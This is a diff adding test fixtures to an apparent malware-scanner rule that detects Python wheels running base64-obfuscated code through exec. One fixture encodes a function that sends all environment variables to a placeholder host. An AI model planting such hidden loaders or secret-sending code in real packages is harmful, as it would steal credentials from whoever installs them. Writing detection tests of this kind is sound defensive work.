@@ -46,8 +46,36 @@ export const importHiddenCode: Rule = {
         },
         verdict: 'malicious',
       },
+      {
+        what: 'a hidden library that is called at once',
+        format: 'wheel',
+        files: {
+          'sample/__init__.py':
+            'import base64\nexec(base64.b64decode("aW1wb3J0IG9zCgpET05FID0ge30KCmRlZiBrZWVwcyhuYW1lKToKICAgIGRlZiBrZXB0KGYpOgogICAgICAgIERPTkVbbmFtZV0gPSBmCiAgICAgICAgcmV0dXJuIGYKICAgIHJldHVybiBrZXB0CgpAa2VlcHMoImdpdCIpCmRlZiB2ZXJzaW9uKHJvb3QpOgogICAgd2l0aCBvcGVuKG9zLnBhdGguam9pbihyb290LCAiVkVSU0lPTiIpLCAidyIpIGFzIGY6CiAgICAgICAgZi53cml0ZSgiMSIpCgp2ZXJzaW9uKCIuIikK"), globals())',
+        },
+        verdict: 'malicious',
+      },
+      {
+        what: 'a hidden library that sends what it is not asked for',
+        format: 'wheel',
+        files: {
+          'sample/__init__.py':
+            'import base64\nexec(base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAoKZGVmIHZlcnNpb24ocm9vdCk6CiAgICB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL3guaW52YWxpZC8iLCBkYXRhPXN0cihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSkK"), globals())',
+        },
+        verdict: 'malicious',
+      },
     ],
     ignores: [
+      {
+        what: 'an installer that carries its own library (versioneer)',
+        format: 'wheel',
+        files: {
+          'sample/__init__.py':
+            'import base64\nLIBRARY = base64.b64decode("aW1wb3J0IG9zCgpET05FID0ge30KCmRlZiBrZWVwcyhuYW1lKToKICAgIGRlZiBrZXB0KGYpOgogICAgICAgIERPTkVbbmFtZV0gPSBmCiAgICAgICAgcmV0dXJuIGYKICAgIHJldHVybiBrZXB0CgpAa2VlcHMoImdpdCIpCmRlZiB2ZXJzaW9uKHJvb3QpOgogICAgd2l0aCBvcGVuKG9zLnBhdGguam9pbihyb290LCAiVkVSU0lPTiIpLCAidyIpIGFzIGY6CiAgICAgICAgZi53cml0ZSgiMSIpCg==")\nexec(LIBRARY.decode(), globals())',
+        },
+        why: 'The text is known to its end, only defines functions, and they do what they might as well do openly.',
+        verdict: 'suspicious',
+      },
       {
         what: 'a template engine',
         format: 'wheel',
